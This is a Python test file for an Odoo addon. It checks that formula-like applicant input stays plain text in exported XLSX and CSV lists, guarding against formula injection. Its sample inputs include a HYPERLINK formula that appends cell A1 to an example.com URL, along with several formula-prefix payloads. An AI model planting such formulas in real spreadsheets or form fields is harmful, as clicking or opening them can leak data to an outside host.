"""What somebody has entered stays text in a spreadsheet."""

import io
import json

from openpyxl import load_workbook

from odoo import http
from odoo.tests import HttpCase, tagged

from ..common import PtspCase

#: What spreadsheets would compute, fetch or start.
FORMULAS = ('=HYPERLINK("http://example.com/?"&A1,"Klik")', "{=1+1}", "@SUM(1+1)", "+1+1", "-1+1", "http://example.com")


@tagged("post_install", "-at_install")
class TestExports(HttpCase, PtspCase):
    """Officers export lists; applicants have written what stands in them."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.applications = cls.env["ptsp.application"]
        for text in FORMULAS:
            cls.applications |= cls.bring_to(cls.file(organizer_name=text, event_name=text), "cs_check")

    def export(self, kind, model="ptsp.application", records=None, groupby=()):
        self.authenticate("test_auditor", "test_auditor")
        records = self.applications if records is None else records
        name = "organizer_name" if model == "ptsp.application" else "name"
        data = {
            "model": model,
            "fields": [{"name": name, "label": "Label", "type": "char", "store": True}],
            "ids": records.ids,
            "domain": [("id", "in", records.ids)],
            "groupby": list(groupby),
            "import_compat": False,
            "context": {},
        }
        form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        self.env.ref("base.group_allow_export").user_ids |= self.users["auditor"]
        response = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(response.status_code, 200, response.text[:500])
        return response.content

    def cells(self, content):
        sheet = load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]

    def test_list(self):
        """Every text of an exported list is text: no formula, no link."""
        cells = self.cells(self.export("xlsx"))
        self.assertLessEqual(set(FORMULAS), {cell.value for cell in cells})
        self.assertEqual({(cell.data_type, cell.hyperlink) for cell in cells}, {("s", None)})

    def test_groups(self):
        """The same holds for lists in groups, and for the names of the groups."""
        cells = self.cells(self.export("xlsx", groupby=["event_name"]))
        self.assertLessEqual({f"{text} (1)" for text in FORMULAS}, {cell.value for cell in cells})
        self.assertEqual({(cell.data_type, cell.hyperlink) for cell in cells}, {("s", None)})

    def test_csv(self):
        """In a text file whatever begins like a formula is marked as text."""
        lines = self.export("csv").decode().splitlines()[1:]
        for beginning in ("=", "+", "-", "@"):
            self.assertFalse([line for line in lines if line.startswith(f'"{beginning}')])

    def test_other_lists(self):
        """The lists of other addons are exported as Odoo does it."""
        country = self.env["res.country"].create({"name": "=1+1", "code": "Q9"})
        [_label, cell] = self.cells(self.export("xlsx", "res.country", country))
        self.assertEqual(cell.data_type, "f")
